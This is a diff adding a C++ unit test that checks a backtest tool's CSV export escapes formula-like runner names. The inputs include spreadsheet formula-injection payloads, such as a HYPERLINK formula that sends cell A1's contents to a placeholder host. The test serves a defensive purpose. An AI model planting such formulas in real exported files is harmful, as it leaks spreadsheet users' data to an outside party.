@@ -7,6 +7,7 @@
 
 #include "backtest/backtest_support.h"
 #include "backtest/race_assist.h"
+#include "platform/fs.h"
 #include "platform/text.h"
 #include "support/temp_dir.h"
 
@@ -199,6 +200,35 @@ TEST(BacktestMemo, MarksAreWhatEachRowGained)
     auto marks = backtest::MarksFromMemo(before, after);
     EXPECT_EQ(marks, (std::map<int, std::string> { { 1, "-k" }, { 9, "" }, { 10, "d" } }));
     EXPECT_EQ(backtest::MarksFromMemo(before, U" 1 アイ\n")[1], "");
+}
+
+// Names from imported data that a spreadsheet would run as formulas reach marks.csv as text; the
+// assist's own marks ("-" leads many) are written as they are.
+TEST(BacktestCsv, FormulaLikeNamesAreKeptAsText)
+{
+    backtest::RaceOutcome race;
+    race.raceId = "202612270611";
+    race.date = { 2026, 12, 27 };
+    race.venue = "@中山";
+    race.raceNumber = 11;
+    const std::vector<std::string> names = { "=HYPERLINK(\"http://x/\"&A1,\"a\")", "+1+2", "-3", "@SUM(A1)", "\tタブ",
+        "\rキャリッジ", "普通の名前", "名前=後ろ" };
+    std::map<int, std::string> marks;
+    for (std::size_t i = 0; i < names.size(); ++i) {
+        race.runners.push_back({ static_cast<int>(i + 1), names[i], true, static_cast<int>(i + 1), 0, 0 });
+        marks[static_cast<int>(i + 1)] = i % 2 ? "-k" : "";
+    }
+    TempDir dir;
+    fs::WriteBytesAtomic(dir.File("marks.csv"),
+        "\xEF\xBB\xBF" + std::string(backtest::MarksCsv::Header()) + backtest::MarksCsv::Rows(race, marks));
+    auto rows = ReadCsv(dir.File("marks.csv"));
+    ASSERT_EQ(rows.size(), names.size() + 1);
+    for (std::size_t i = 0; i < names.size(); ++i) {
+        const std::string& cell = rows[i + 1][5];
+        EXPECT_EQ(cell, i < 6 ? "'" + names[i] : names[i]) << i;
+        EXPECT_EQ(rows[i + 1][2], "'@中山");
+        EXPECT_EQ(rows[i + 1][6], i % 2 ? "-k" : "");
+    }
 }
 
 } // namespace pado::testing
